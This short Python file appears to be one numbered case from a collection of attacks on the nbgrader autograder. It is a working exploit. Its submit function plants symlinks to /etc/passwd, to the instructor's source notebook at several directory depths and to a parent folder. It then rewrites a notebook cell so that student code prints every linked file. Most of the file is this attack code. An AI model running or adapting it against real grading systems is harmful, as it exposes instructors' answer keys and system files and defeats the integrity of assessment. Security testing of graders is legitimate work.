"""Hand in links to files of the instructor.

A grader that copies a submission copies what a link points to, and puts it where the student's
code can read it.
"""

import json

NUMBER = "34"
WANTS = "secrets"
STOCK = "succeeds: no grade for the student (nbgrader 0.9.6)"
# What the answer prints if it finds the files beside itself.
PRINTS = """
from pathlib import Path

for path in Path(".").glob("stolen*"):
    print(path.read_text(errors="replace"))
"""


def submit(folder, work):
    (folder / "stolen_users").symlink_to("/etc/passwd")
    for up in ("..", "../..", "../../..", "../../../.."):
        link = folder / f"stolen{up.count('.')}"
        link.symlink_to(f"{up}/source/target/target.ipynb")
    (folder / "class").symlink_to("../../..")
    next(c for c in work["cells"] if c["id"] == "standardize")["source"] = PRINTS
    (folder / "target.ipynb").write_text(json.dumps(work))
